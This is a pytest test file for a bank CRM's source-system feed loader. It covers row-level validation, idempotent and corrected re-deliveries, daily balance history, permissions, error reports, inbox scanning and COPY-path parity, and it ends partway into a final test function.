"""Source-system feeds (customers.ecif.feeds): every bad-input case of the load path, idempotency
per (source, feed, business date), corrected re-deliveries and the daily balance history.
The loads run here synchronously (services.run_load); tests/customers/ecif/feeds/test_worker.py runs them on
a real Celery worker."""

import csv
import datetime
import decimal
import io

import pytest
from django.core.exceptions import PermissionDenied
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from customers.ecif.feeds import copying, loaders, services
from customers.ecif.feeds.models import FeedLoad, SourceRecord
from customers.master.models import ContactPoint, FxRate, Holding, HoldingBalance, IdentityDocument, Transaction
from ocrm import pii
from ocrm.audit.models import AuditLog
from ocrm.batch.models import JobRun
from sysadmin.parameters.models import SystemParameter
from tests.conftest import BASE_DIR
from tests.customers.ecif.feeds.support import (
    CUSTOMER_HEADER,
    DAY1,
    DAY2,
    bad_check_digit,
    csv_bytes,
    customer_row,
    deliver,
    errors_of,
    link,
    resident_id,
    xlsx_bytes,
)
from tests.factories import make_branch, make_customer, make_product

pytestmark = pytest.mark.django_db

ID1 = resident_id("11010519800501001")
ID2 = resident_id("31010419751111002")


# --- customers ---------------------------------------------------------------------------------


def test_customer_feed_loads_valid_rows_and_reports_every_bad_one(org):
    rows = [
        customer_row("C001", id_number=ID1),  # row 2: fine
        customer_row("C002", name=""),  # 3: required
        customer_row("C003", kind="person"),  # 4: choice
        customer_row("C004", birth_date="1980-02-30"),  # 5: not a date
        customer_row("C005", nationality="XX"),  # 6: country
        customer_row("C006", id_number=bad_check_digit(ID2)),  # 7: check digit
        customer_row("C007", phone="12345"),  # 8: phone in CN
        customer_row("C008", email="not-an-address"),  # 9: e-mail
        customer_row("C009", id_number="E1234567", id_type=""),  # 10: id_type missing
        customer_row("C010", branch_code="NOPE"),  # 11: unknown branch (SQL)
        customer_row("C011"),  # 12: duplicate key
        customer_row("C011", name="李四"),  # 13: duplicate key
        customer_row("C012", phone="+85291234567", nationality="HK"),  # 14: fine (HK mobile)
        customer_row("C013", phone="020 7946 0018", nationality="GB"),  # 15: fine, national form in GB
    ]
    load = deliver(org.admin, "customers", csv_bytes(CUSTOMER_HEADER, rows))

    assert load.status == FeedLoad.Status.LOADED
    assert (load.rows_read, load.rows_loaded, load.rows_rejected) == (14, 3, 11)
    assert errors_of(load) == [
        (3, "name"),
        (4, "kind"),
        (5, "birth_date"),
        (6, "nationality"),
        (7, "id_number"),
        (8, "phone"),
        (9, "email"),
        (10, "id_type"),
        (11, "branch_code"),
        (12, "customer_key"),
        (13, "customer_key"),
    ]
    # The report never shows a clear identity number.
    bad_id = load.errors.get(field="id_number")
    assert bad_id.value == pii.mask_id(bad_check_digit(ID2)) and "check digit" in bad_id.reason
    records = {r.source_key: r for r in SourceRecord.objects.filter(bank_id=org.bank_a.pk, source_system="CORE")}
    assert set(records) == {"C001", "C012", "C013"}
    first = records["C001"]
    assert first.id_number_hash == pii.keyed_hash(ID1) and ID1 not in first.id_number_encrypted
    assert pii.decrypt(first.id_number_encrypted) == ID1 and first.id_number_masked == pii.mask_id(ID1)
    assert first.phone == "+8613912345678"
    assert records["C012"].phone == "+85291234567" and records["C013"].phone == "+442079460018"
    assert first.birth_date == datetime.date(1980, 5, 1) and first.business_date == DAY1
    run = load.job_run
    assert run.status == JobRun.Status.SUCCEEDED
    assert (run.counts["read"], run.counts["loaded"], run.counts["rejected"]) == (14, 3, 11)
    # The load hands the new records to matching (customers.ecif.matching.services), which links each to a golden customer.
    assert not SourceRecord.objects.filter(match_status=SourceRecord.MatchStatus.UNRESOLVED).exists()
    assert all(r.customer_id for r in SourceRecord.objects.exclude(match_status=SourceRecord.MatchStatus.REVIEW))
    assert {"matched", "merged"} <= set(run.counts) and load.matched == run.counts["matched"]


def test_gb18030_csv_with_chinese_headers_and_semicolons_loads(org):
    header = ["客户源键", "客户类型", "客户名称", "证件类型", "证件号码", "手机号码", "来源系统", "业务日期"]
    content = csv_bytes(
        header,
        [
            ["K1", "retail", "张三丰", "resident_id", ID1, "139 1234 5678", "CORE", "2026-11-20"],
            ["K2", "corporate", "深圳市某某科技有限公司", "", "", "", "CORE", "2026-11-21"],
        ],
        encoding="gb18030",
        delimiter=";",
    )
    load = deliver(org.admin, "customers", content)
    assert (load.file_format, load.encoding, load.status) == ("csv", "gb18030", FeedLoad.Status.LOADED)
    assert SourceRecord.objects.get(source_key="K1").name_local == "张三丰"
    # A row stamped with another business date than the file's is refused.
    assert errors_of(load) == [(3, "business_date")]


def test_xlsx_feed_loads(org):
    rows = [customer_row("X1", id_number=ID1), customer_row("X2", birth_date="1980-13-01")]
    load = deliver(org.admin, "customers", xlsx_bytes(CUSTOMER_HEADER, rows), name="customers.xlsx")
    assert (load.file_format, load.rows_loaded, errors_of(load)) == ("xlsx", 1, [(3, "birth_date")])


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, "PNG image"),
        (csv_bytes(["customer_key", "kind", "name", "favourite_colour"], [["A", "retail", "x", "red"]]), "Unknown columns"),
        (csv_bytes(["customer_key", "name"], [["A", "x"]]), "Required columns are missing: kind"),
        (csv_bytes(CUSTOMER_HEADER, [customer_row("A")]).replace(b"Wang", b"W\xe9ng\xff"), "UTF-8 or GB18030"),
        (b"", "empty"),
        (b"PK\x03\x04garbage", "damaged"),
    ],
)
def test_a_file_unreadable_as_a_whole_is_rejected_whole(org, content, message):
    load = deliver(org.admin, "customers", content)
    assert load.status == FeedLoad.Status.REJECTED and message in load.error
    assert load.job_run.status == JobRun.Status.SUCCEEDED and message in load.job_run.error_report
    assert not SourceRecord.objects.exists() and not load.errors.exists()


def test_a_row_with_a_value_under_no_column_name_is_rejected_alone(org):
    content = csv_bytes(CUSTOMER_HEADER, [customer_row("A1"), customer_row("A2") + ["stray"]])
    load = deliver(org.admin, "customers", content)
    assert load.rows_loaded == 1 and errors_of(load) == [(3, "—")]


def test_the_same_customer_file_twice_changes_nothing_more(org):
    content = csv_bytes(CUSTOMER_HEADER, [customer_row("C1", id_number=ID1), customer_row("C2")])
    first = deliver(org.admin, "customers", content)
    before = list(SourceRecord.objects.order_by("pk").values())
    second = deliver(org.admin, "customers", content)
    assert second.status == FeedLoad.Status.UNCHANGED and f"#{first.pk}" in second.error
    assert list(SourceRecord.objects.order_by("pk").values()) == before
    # A corrected re-delivery: the changed record is upserted (and must be matched again), the other is left alone.
    corrected = deliver(
        org.admin, "customers", csv_bytes(CUSTOMER_HEADER, [customer_row("C1", id_number=ID1), customer_row("C2", name="王小二")])
    )
    assert corrected.status == FeedLoad.Status.LOADED and corrected.job_run.counts["changed"] == 1
    assert FeedLoad.objects.get(pk=first.pk).status == FeedLoad.Status.SUPERSEDED
    c1, c2 = SourceRecord.objects.order_by("source_key")
    assert c1.updated_at == before[0]["updated_at"] and c1.loaded_by_run_id == first.job_run_id
    assert c2.name_local == "王小二" and c2.loaded_by_run_id == corrected.job_run_id
    assert SourceRecord.objects.count() == 2


def test_an_older_business_date_never_overwrites_a_newer_one(org):
    deliver(org.admin, "customers", csv_bytes(CUSTOMER_HEADER, [customer_row("C1", name="新名字")]), date=DAY2)
    late = deliver(org.admin, "customers", csv_bytes(CUSTOMER_HEADER, [customer_row("C1", name="旧名字")]), date=DAY1)
    assert late.status == FeedLoad.Status.LOADED
    record = SourceRecord.objects.get()
    assert (record.name_local, record.business_date) == ("新名字", DAY2)


def test_an_upload_without_the_permission_is_refused(org):
    with pytest.raises(PermissionDenied):
        deliver(org.manager, "customers", csv_bytes(CUSTOMER_HEADER, [customer_row("C1")]))
    assert not FeedLoad.objects.exists()


# --- identities and contacts -------------------------------------------------------------------


@pytest.fixture
def linked(org):
    deliver(org.admin, "customers", csv_bytes(CUSTOMER_HEADER, [customer_row(k) for k in ("K1", "K2", "K3")]))
    customers = link(org.a_sh, ["K1", "K2"])
    # K3 waits for a reviewer: not linked to any customer yet.
    SourceRecord.objects.filter(source_key="K3").update(customer=None, match_status=SourceRecord.MatchStatus.REVIEW)
    return customers


def test_identity_feed_checks_the_check_digit_and_the_customer(org, linked):
    header = ["customer_key", "doc_type", "id_number", "issuing_country", "expiry_date"]
    rows = [
        ["K1", "resident_id", ID1, "CN", "2036-01-01"],
        ["K2", "resident_id", bad_check_digit(ID2), "CN", ""],
        ["K2", "passport", "E12345678", "CN", "2031-02-30"],
        ["K3", "passport", "E7654321", "CN", ""],
        ["NOBODY", "passport", "E0000001", "CN", ""],
        ["K2", "hk_id", "A1234563", "HK", ""],
    ]
    load = deliver(org.admin, "identities", csv_bytes(header, rows))
    assert errors_of(load) == [(3, "id_number"), (4, "expiry_date"), (5, "customer_key"), (6, "customer_key")]
    reasons = dict(load.errors.values_list("row_number", "reason"))
    assert "not resolved" in reasons[5] and "unknown customer" in reasons[6]
    documents = IdentityDocument.objects.filter(source_system="CORE").order_by("source_key")
    assert [(d.customer_id, d.source_key, d.number_hash) for d in documents] == [
        (linked["K1"].pk, "K1/resident_id", pii.keyed_hash(ID1)),
        (linked["K2"].pk, "K2/hk_id", pii.keyed_hash("A1234563")),
    ]
    # Re-delivered with a new expiry: the same document is updated, not added.
    rows[0][4] = "2040-01-01"
    deliver(org.admin, "identities", csv_bytes(header, rows[:1]), date=DAY2)
    assert IdentityDocument.objects.filter(source_system="CORE").count() == 2
    assert IdentityDocument.objects.get(source_key="K1/resident_id").expiry_date == datetime.date(2040, 1, 1)


def test_contact_feed_reads_phones_in_the_row_country(org, linked):
    header = ["customer_key", "kind", "value", "country", "opted_out"]
    rows = [
        ["K1", "mobile", "139-1234-5678", "CN", "否"],
        ["K1", "email", "Wang.Wei@Example.COM", "", ""],
        ["K2", "mobile", "9123 4567", "HK", "yes"],
        ["K2", "phone", "9123 4567", "CN", ""],  # not a CN number
        ["K2", "email", "nope", "", ""],
        ["K2", "wechat", "wx_wang", "", "maybe"],
    ]
    load = deliver(org.admin, "contacts", csv_bytes(header, rows))
    assert errors_of(load) == [(5, "value"), (6, "value"), (7, "opted_out")]
    values = dict(ContactPoint.objects.filter(source_system="CORE").values_list("source_key", "value"))
    assert values == {"K1/mobile": "+8613912345678", "K1/email": "wang.wei@example.com", "K2/mobile": "+85291234567"}
    assert ContactPoint.objects.get(source_key="K2/mobile").opted_out is True


# --- holdings, balances, transactions ----------------------------------------------------------

HOLDING_HEADER = ["account_number", "customer_key", "product_code", "currency", "balance", "status", "open_date"]
TXN_HEADER = [
    "txn_id",
    "account_number",
    "customer_key",
    "occurred_at",
    "amount",
    "currency",
    "direction",
    "channel",
    "txn_type",
    "description",
]


@pytest.fixture
def accounts(org, linked):
    make_product(org.bank_a, "DD-CNY")
    make_product(org.bank_a, "TD-USD", product_type="time_deposit", currency="USD")
    FxRate.objects.create(bank=org.bank_a, currency="USD", rate=decimal.Decimal("7.1"), as_of=DAY1)
    rows = [
        ["6222001", "K1", "DD-CNY", "CNY", "1000.50", "active", "2020-01-01"],
        ["6222002", "K1", "TD-USD", "USD", "100", "", ""],
        ["6222003", "K2", "DD-CNY", "CNY", "5", "", ""],
    ]
    load = deliver(org.admin, "holdings", csv_bytes(HOLDING_HEADER, rows))
    assert load.rows_loaded == 3 and not load.errors.exists()
    return linked


def balances(date):
    return dict(HoldingBalance.objects.filter(business_date=date).values_list("holding__account_number", "balance_base"))


def test_holdings_keep_daily_balance_history_and_a_redelivery_replaces_its_day(org, accounts):
    assert balances(DAY1) == {
        "6222001": decimal.Decimal("1000.50"),
        "6222002": decimal.Decimal("710.00"),
        "6222003": decimal.Decimal("5.00"),
    }
    day2 = [
        ["6222001", "K1", "DD-CNY", "CNY", "2000", "", ""],
        ["6222002", "K1", "TD-USD", "USD", "200", "", ""],
        ["6222003", "K2", "DD-CNY", "CNY", "6", "", ""],
    ]
    deliver(org.admin, "holdings", csv_bytes(HOLDING_HEADER, day2), date=DAY2)
    assert Holding.objects.get(account_number="6222001").balance == 2000
    # A corrected day 1 (one account fewer) replaces day 1's balances only, and leaves current balances alone.
    corrected = deliver(org.admin, "holdings", csv_bytes(HOLDING_HEADER, [["6222001", "K1", "DD-CNY", "CNY", "999", "", ""]]))
    assert corrected.status == FeedLoad.Status.LOADED
    assert balances(DAY1) == {"6222001": decimal.Decimal("999.00")}
    assert balances(DAY2)["6222001"] == 2000 and Holding.objects.get(account_number="6222001").balance == 2000
    assert HoldingBalance.objects.count() == 4 and Holding.objects.count() == 3


def test_holdings_feed_referential_checks(org, accounts):
    Holding.objects.filter(account_number="6222003").update(source_system="CARDS")
    rows = [
        ["7000001", "NOBODY", "DD-CNY", "CNY", "1", "", ""],
        ["7000002", "K3", "DD-CNY", "CNY", "1", "", ""],
        ["7000003", "K1", "NO-SUCH", "CNY", "1", "", ""],
        ["6222003", "K2", "DD-CNY", "CNY", "1", "", ""],
        ["7000004", "K1", "DD-CNY", "EUR", "1", "", ""],
        ["7000005", "K1", "DD-CNY", "CNY", "1.234", "", ""],
        ["7000006", "K1", "DD-CNY", "ZZZ", "1", "", ""],
        ["7000007", "K1", "DD-CNY", "CNY", "1", "open", ""],
        ["7000008", "K1", "DD-CNY", "CNY", "1", "", ""],
        ["7000008", "K1", "DD-CNY", "CNY", "2", "", ""],
    ]
    load = deliver(org.admin, "holdings", csv_bytes(HOLDING_HEADER, rows), date=DAY2)
    assert errors_of(load) == [
        (2, "customer_key"),
        (3, "customer_key"),
        (4, "product_code"),
        (5, "account_number"),
        (6, "currency"),
        (7, "balance"),
        (8, "currency"),
        (9, "status"),
        (10, "account_number"),
        (11, "account_number"),
    ]
    assert load.errors.get(row_number=5).value == "CARDS"
    assert load.rows_loaded == 0 and not Holding.objects.filter(account_number__startswith="7").exists()


def test_transactions_load_and_a_corrected_delivery_replaces_the_days_transactions(org, accounts):
    rows = [
        ["T1", "6222001", "K1", "2026-11-20 09:30:00+08:00", "100.00", "CNY", "C", "counter", "deposit", "现金存入"],
        ["T2", "6222001", "K1", "2026-11-20T10:00", "-20", "CNY", "D", "atm", "withdrawal", ""],
        ["T3", "6222003", "K1", "2026-11-20 11:00", "1", "CNY", "D", "pos", "purchase", ""],  # K2's account
        ["T4", "9999999", "K1", "2026-11-20 11:00", "1", "CNY", "D", "pos", "purchase", ""],  # unknown account
        ["T5", "6222001", "K1", "2026-11-31 11:00", "1", "CNY", "D", "pos", "purchase", ""],  # bad time
        ["T6", "6222001", "K1", "2026-11-20 11:00", "1", "CNY", "X", "pos", "purchase", ""],  # direction
        ["T7", "6222001", "K1", "2026-11-20 11:00", "1", "CNY", "D", "fax", "purchase", ""],  # channel
        ["T8", "6222001", "K1", "2026-11-20 11:00", "", "CNY", "D", "pos", "purchase", ""],  # amount
        ["T9", "6222001", "K3", "2026-11-20 11:00", "1", "CNY", "D", "pos", "purchase", ""],  # unresolved
        ["T2", "6222001", "K1", "2026-11-20 12:00", "5", "CNY", "D", "pos", "purchase", ""],
    ]  # duplicate id
    load = deliver(org.admin, "transactions", csv_bytes(TXN_HEADER, rows))
    assert errors_of(load) == [
        (3, "txn_id"),
        (4, "account_number"),
        (5, "account_number"),
        (6, "occurred_at"),
        (7, "direction"),
        (8, "channel"),
        (9, "amount"),
        (10, "customer_key"),
        (11, "txn_id"),
    ]
    txn = Transaction.objects.get()
    assert (txn.source_txn_id, txn.customer_id, txn.business_date, txn.amount) == ("T1", accounts["K1"].pk, DAY1, 100)
    assert txn.occurred_at == datetime.datetime(2026, 11, 20, 1, 30, tzinfo=datetime.UTC)
    # The corrected file: T1 changed, T2 fixed, T3.. gone; the day is replaced, nothing doubled.
    corrected = [rows[0][:4] + ["101.00"] + rows[0][5:], rows[1][:4] + ["20"] + rows[1][5:]]
    deliver(org.admin, "transactions", csv_bytes(TXN_HEADER, corrected))
    assert dict(Transaction.objects.values_list("source_txn_id", "amount")) == {"T1": 101, "T2": 20}
    # Another day's delivery adds to the history and leaves day 1 alone.
    deliver(org.admin, "transactions", csv_bytes(TXN_HEADER, [["T10"] + rows[0][1:]]), date=DAY2)
    assert Transaction.objects.filter(business_date=DAY1).count() == 2 and Transaction.objects.count() == 3


def test_a_transaction_delivered_again_under_another_date_moves_and_duplicates_are_refused_alongside(org, accounts):
    """The plain INSERT meets the earlier copy's key: the load falls back to the upsert, after
    refusing every copy of a txn_id that the file holds twice."""
    day1 = [
        ["T1", "6222001", "K1", "2026-11-20 09:30", "100.00", "CNY", "C", "counter", "deposit", ""],
        ["T2", "6222001", "K1", "2026-11-20 10:00", "5.00", "CNY", "D", "atm", "withdrawal", ""],
    ]
    deliver(org.admin, "transactions", csv_bytes(TXN_HEADER, day1))
    day2 = [
        ["T1", "6222001", "K1", "2026-11-20 09:30", "100.50", "CNY", "C", "counter", "deposit", "late"],  # moves
        ["T3", "6222001", "K1", "2026-11-21 08:00", "7", "CNY", "D", "pos", "purchase", ""],
        ["T3", "6222001", "K1", "2026-11-21 08:05", "8", "CNY", "D", "pos", "purchase", ""],
        ["T4", "6222001", "K1", "2026-11-21 09:00", "9", "CNY", "D", "pos", "purchase", ""],
    ]
    load = deliver(org.admin, "transactions", csv_bytes(TXN_HEADER, day2), date=DAY2)
    assert errors_of(load) == [(3, "txn_id"), (4, "txn_id")]
    assert (load.rows_read, load.rows_loaded, load.rows_rejected) == (4, 2, 2)
    rows = {t.source_txn_id: (t.business_date, t.amount, t.description) for t in Transaction.objects.all()}
    assert rows == {"T1": (DAY2, decimal.Decimal("100.50"), "late"), "T2": (DAY1, 5, ""), "T4": (DAY2, 9, "")}


def test_the_error_report_downloads_as_xlsx_for_the_loader_only(org, client):
    load = deliver(
        org.admin,
        "customers",
        csv_bytes(CUSTOMER_HEADER, [customer_row("C1", birth_date="x"), customer_row("C2", id_number=bad_check_digit(ID1))]),
    )
    client.force_login(org.admin)
    response = client.get(f"/customers/feeds/{load.pk}/errors.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert len(values[0]) == 4  # row, field, value, reason (in the user's language)
    assert [row[:3] for row in values[1:]] == [[2, "birth_date", "x"], [3, "id_number", pii.mask_id(bad_check_digit(ID1))]]
    client.force_login(org.manager)
    assert client.get(f"/customers/feeds/{load.pk}/errors.xlsx").status_code == 403
    client.force_login(org.b_admin)
    assert client.get(f"/customers/feeds/{load.pk}/errors.xlsx").status_code == 404


def test_golden_customers_are_reached_through_source_records_only(org, accounts):
    other = make_customer("OTHER1", org.a_sh)
    SourceRecord.objects.filter(source_key="K2").update(customer=other)
    load = deliver(
        org.admin,
        "transactions",
        csv_bytes(TXN_HEADER, [["T1", "6222003", "K2", "2026-11-20 09:30", "1", "CNY", "C", "online", "transfer", ""]]),
    )
    # K2's account still belongs to K2's former customer: the row is refused, not booked to either.
    assert errors_of(load) == [(2, "account_number")] and not Transaction.objects.exists()
    assert services.PERMISSION == "customers.load_feeds"


def test_error_report_as_csv_opens_in_excel_with_chinese_intact(org, client):
    load = deliver(org.admin, "customers", csv_bytes(CUSTOMER_HEADER, [customer_row("C1", name="", gender="男")]))
    client.force_login(org.admin)
    response = client.get(f"/customers/feeds/{load.pk}/errors.csv")
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff") and response["Content-Type"].startswith("text/csv")
    lines = text.lstrip("\ufeff").splitlines()
    assert len(lines) == 3 and lines[1].startswith("2,name,") and lines[2].startswith("2,gender,男,")


# --- pages --------------------------------------------------------------------------------------


def test_upload_page_receives_the_file_and_queues_its_load(
    org, client, django_capture_on_commit_callbacks, django_assert_max_num_queries, settings, tmp_path
):
    settings.MEDIA_ROOT = str(tmp_path)
    client.force_login(org.admin)
    assert client.get("/customers/feeds/upload/").status_code == 200
    content = csv_bytes(CUSTOMER_HEADER, [customer_row("C1"), customer_row("C2", kind="?")])
    with django_capture_on_commit_callbacks() as callbacks:
        response = client.post(
            "/customers/feeds/upload/",
            {
                "source_system": "core",
                "feed": "customers",
                "business_date": "2026-11-20",
                "file": SimpleUploadedFile("客户.csv", content),
            },
        )
    load = FeedLoad.objects.get()
    assert response.status_code == 302 and response["Location"] == f"/customers/feeds/{load.pk}/"
    assert len(callbacks) == 1  # load_feed.delay, sent once the upload is committed
    assert (load.source_system, load.status, load.origin, load.uploaded_by) == ("CORE", "queued", "upload", org.admin)
    assert open(load.file.path, "rb").read() == content
    services.run_load(load.pk)
    with django_assert_max_num_queries(25):
        page = client.get(f"/customers/feeds/{load.pk}/").content.decode()
    assert 'data-status="loaded"' in page and 'data-row="3" data-field="kind"' in page
    with django_assert_max_num_queries(25):
        listing = client.get("/customers/feeds/").content.decode()
    assert "客户.csv" in listing
    progress = client.get(f"/customers/feeds/{load.pk}/progress/", HTTP_HX_REQUEST="true")
    assert progress["HX-Refresh"] == "true" and 'data-count="loaded">1<' in progress.content.decode()


def test_bad_source_system_code_is_refused_on_the_form(org, client):
    client.force_login(org.admin)
    response = client.post(
        "/customers/feeds/upload/",
        {
            "source_system": "core system!",
            "feed": "customers",
            "business_date": "2026-11-20",
            "file": SimpleUploadedFile("c.csv", b"customer_key,kind,name\nA,retail,x\n"),
        },
    )
    assert response.status_code == 200 and not FeedLoad.objects.exists()


# --- the inbox folder ----------------------------------------------------------------------------


def test_inbox_files_are_queued_loaded_and_moved_with_a_report(org, settings, tmp_path):
    settings.OCRM_FEED_INBOX = str(tmp_path)
    settings.OCRM_FEED_INBOX_SETTLE_SECONDS = 0
    folder = tmp_path / org.bank_a.code
    folder.mkdir()
    (folder / "CORE_customers_20261120.csv").write_bytes(
        csv_bytes(CUSTOMER_HEADER, [customer_row("C1"), customer_row("C2", email="x")], encoding="gb18030")
    )
    (folder / "notes.csv").write_bytes(b"customer_key\n1\n")
    (folder / "CORE_customers_20261131.csv").write_bytes(b"customer_key\n1\n")
    results = {r["file"]: r for r in services.scan_inbox()}
    assert results["notes.csv"]["outcome"] == "rejected" and results["CORE_customers_20261131.csv"]["outcome"] == "rejected"
    assert results["CORE_customers_20261120.csv"]["outcome"] == "queued"
    rejected = sorted(p.name for p in (folder / "rejected").iterdir())
    assert len(rejected) == 4 and all(
        name.endswith(("notes.csv", "notes.csv.report.txt", "20261131.csv", "20261131.csv.report.txt")) for name in rejected
    )
    load = FeedLoad.objects.get()
    assert (load.origin, load.source_system, load.business_date, load.status) == ("inbox", "CORE", DAY1, "queued")
    services.run_load(load.pk)
    load.refresh_from_db()
    assert (load.status, load.rows_loaded, load.rows_rejected, load.encoding) == ("loaded", 1, 1, "gb18030")
    processed = sorted((folder / "processed").iterdir())
    assert [p.name.endswith(".report.txt") for p in processed] == [False, True]
    report = processed[1].read_text(encoding="utf-8")
    assert "row 3, email = 'x'" in report
    assert load.inbox_path == str(processed[0]) and not list((folder / "loading").iterdir())
    assert services.scan_inbox() == []  # nothing left to pick up


# --- the documented samples ----------------------------------------------------------------------


def test_every_sample_of_docs_feeds_loads_without_a_rejected_row(org, settings, tmp_path):

    settings.MEDIA_ROOT = str(tmp_path)
    # The demo bank's codes (tests/customers/ecif/feeds/test_samples.py loads them into the demo itself).
    make_branch(org.bank_a, "SH", org.a_cn)
    for code, currency, kind in (
        ("DEMO-DD-CNY", "CNY", "demand_deposit"),
        ("DEMO-TD-CNY", "CNY", "time_deposit"),
        ("DEMO-DD-USD", "USD", "demand_deposit"),
        ("DEMO-CDD-CNY", "CNY", "demand_deposit"),
    ):
        make_product(org.bank_a, code, product_type=kind, currency=currency)
    FxRate.objects.create(bank=org.bank_a, currency="USD", rate=decimal.Decimal("7.2"), as_of=DAY1)
    samples = BASE_DIR / "docs" / "samples" / "feeds"
    order = [
        "customers_20261120.csv",
        "customers_20261120_gb18030.csv",
        "identities_20261120.csv",
        "contacts_20261120.csv",
        "holdings_20261120.csv",
        "holdings_20261120.xlsx",
        "transactions_20261120.csv",
    ]
    assert sorted(p.name for p in samples.iterdir()) == sorted(f"CORE_{name}" for name in order)
    for name in order:
        feed = name.split("_")[0]
        load = deliver(org.admin, feed, (samples / f"CORE_{name}").read_bytes(), name=name)
        assert load.status in (FeedLoad.Status.LOADED, FeedLoad.Status.UNCHANGED), (name, load.error)
        assert (load.rows_rejected, list(load.errors.values_list("row_number", "field", "reason"))) == (0, []), name
    assert SourceRecord.objects.filter(customer__isnull=False).count() == 5
    assert Transaction.objects.filter(source_system="CORE").count() == 4
    assert HoldingBalance.objects.get(holding__account_number="6222020000000003").balance_base == 144000


def test_a_load_that_fails_half_way_leaves_production_untouched(org, accounts, monkeypatch):
    rows = [["T1", "6222001", "K1", "2026-11-20 09:30", "1", "CNY", "C", "online", "transfer", ""]]
    first = deliver(org.admin, "transactions", csv_bytes(TXN_HEADER, rows))
    real = loaders.LOADERS["transactions"]

    def write_then_break(cursor, load, ctx, run):
        result = real(cursor, load, ctx, run)  # the day's transactions are deleted and rewritten...
        cursor.execute("SELECT 1 / 0")  # ...then the database fails before the load commits
        return result

    monkeypatch.setitem(loaders.LOADERS, "transactions", write_then_break)
    rows[0][4] = "2"
    with pytest.raises(Exception, match="division by zero"):
        deliver(org.admin, "transactions", csv_bytes(TXN_HEADER, rows))
    failed = FeedLoad.objects.latest("pk")
    assert failed.status == FeedLoad.Status.FAILED and "division by zero" in failed.error
    assert failed.job_run.status == JobRun.Status.FAILED and not failed.errors.exists()
    assert list(Transaction.objects.values_list("source_txn_id", "amount")) == [("T1", 1)]
    assert FeedLoad.objects.get(pk=first.pk).status == FeedLoad.Status.LOADED  # not superseded


# --- the COPY path (customers.ecif.feeds.copying) checks exactly what the Python path checks ---------

CELL_CASES_HEADER = [
    "account_number",
    "customer_key",
    "product_code",
    "currency",
    "balance",
    "status",
    "open_date",
    "maturity_date",
    "rate",
    "branch_code",
    "source_system",
    "business_date",
]
CELL_CASES = [
    ["H01", "K1", "DD-CNY", "cny", "+12.5", "active", "2020-02-29", "", "3.25", "", "CORE", "2026-11-20"],
    ["H02", "K1", "DD-CNY", "CNY", "1,5", "", "", "", "", "", "", ""],  # comma decimal
    ["H03", "K1", "DD-CNY", "CNY", "1.234", "", "", "", "", "", "", ""],  # 3 decimals
    ["H04", "K1", "DD-CNY", "CNY", "1e30", "", "", "", "", "", "", ""],  # exponent
    ["H05", "K1", "DD-CNY", "CNY", "99999999999999999999", "", "", "", "", "", "", ""],  # range
    ["H5A", "K1", "DD-CNY", "CNY", "1e-20000", "", "", "", "1E+999999", "", "", ""],  # exponents
    ["H5B", "K1", "DD-CNY", "CNY", "1.5E1", "", "", "", "-.5", "", "", ""],
    ["H06", "K1", "DD-CNY", "CNY", "1", "gone", "2021-02-29", "2026-13-01", "1000", "", "", ""],
    ["H07", "K1", "DD-CNY", "CNY", "1", "", "2021-2-3", "20260101", "1.23456", "", "", ""],
    ["H08", "K1", "DD-CNY", "CNY", "1", "", "", "", "abc", "B" * 31, "CARDS", "2026-11-21"],
    ["H09", "", "", "", "", "", "", "", "", "", "", "2026-02-30"],  # required cells
    ["", "", "", "", "", "", "", "", "", "", "", ""],  # empty row: skipped
    ["\u3000H10\u00a0", " K1 ", "DD-CNY", "XXX", " 7 ", "", "0000-01-01", "", "", "", "", ""],
]
TXN_CASES = [
    ["T1", "6222001", "K1", "2026-11-20 09:30", "1", "CNY", "C", "atm", "t", ""],
    ["T2", "6222001", "K1", "2026-11-20 24:00", "1", "CNY", "C", "atm", "t", ""],
    ["T3", "6222001", "K1", "2026-11-20 09:60:00Z", "1", "CNY", "C", "atm", "t", ""],
    ["T4", "6222001", "K1", "2026-11-20T09:30:59.123456+0800", "1", "CNY", "C", "atm", "t", ""],
    ["T5", "6222001", "K1", "20.11.2026 09:30", "1", "CNY", "c", "ATM", "t" * 41, "d" * 201],
    ["T6", "6222001", "K1", "2026-11-20 9:30", "-0.5", "CNY", "D", "atm", "t", ""],
]


def feed_errors(load):
    return sorted(load.errors.values_list("row_number", "field", "value", "reason"))


def deliver_both_ways(actor, feed, content, monkeypatch):
    """The file through the COPY path, then as a corrected re-delivery through the Python path (a
    trailing blank line, which the Python path skips, makes it another file)."""
    fast = deliver(actor, feed, content)
    fast_rows = sorted(Transaction.objects.values_list(*TXN_FIELDS))
    monkeypatch.setattr(copying, "eligible", lambda spec, feed_file: False)
    slow = deliver(actor, feed, content + b"\n")
    assert slow.status == FeedLoad.Status.LOADED
    return fast, fast_rows, slow


TXN_FIELDS = ("source_txn_id", "occurred_at", "amount", "currency", "direction", "channel", "description")


@pytest.mark.parametrize(
    ("feed", "header", "rows"), [("holdings", CELL_CASES_HEADER, CELL_CASES), ("transactions", TXN_HEADER, TXN_CASES)]
)
def test_the_copy_path_reports_the_same_cell_errors_as_the_python_path(org, accounts, monkeypatch, feed, header, rows):
    fast, _rows, slow = deliver_both_ways(org.admin, feed, csv_bytes(header, rows), monkeypatch)
    assert fast.file_format == "csv" and len(feed_errors(fast)) >= 8
    assert feed_errors(fast) == feed_errors(slow)
    assert (fast.rows_read, fast.rows_loaded, fast.rows_rejected) == (slow.rows_read, slow.rows_loaded, slow.rows_rejected)
    assert not fast.errors.filter(field="—").exists()


def test_the_copy_path_stages_the_same_values_as_the_python_path(org, accounts, monkeypatch):
    rows = [
        TXN_CASES[0],
        TXN_CASES[3],
        ["T6", *TXN_CASES[0][1:4], "-0.5", "usd", "D", "pos", "t", "现金"],
        ["T7", *TXN_CASES[0][1:3], "2026-11-20 23:59:59.5Z", "1.", "CNY", "D", "pos", "t", ""],
    ]
    fast, fast_rows, slow = deliver_both_ways(org.admin, "transactions", csv_bytes(TXN_HEADER, rows), monkeypatch)
    assert fast.rows_loaded == slow.rows_loaded == 4 and len(fast_rows) == 4
    assert fast_rows == sorted(Transaction.objects.values_list(*TXN_FIELDS))


def test_a_chunk_is_staged_without_cleaning_only_when_no_cell_would_change():
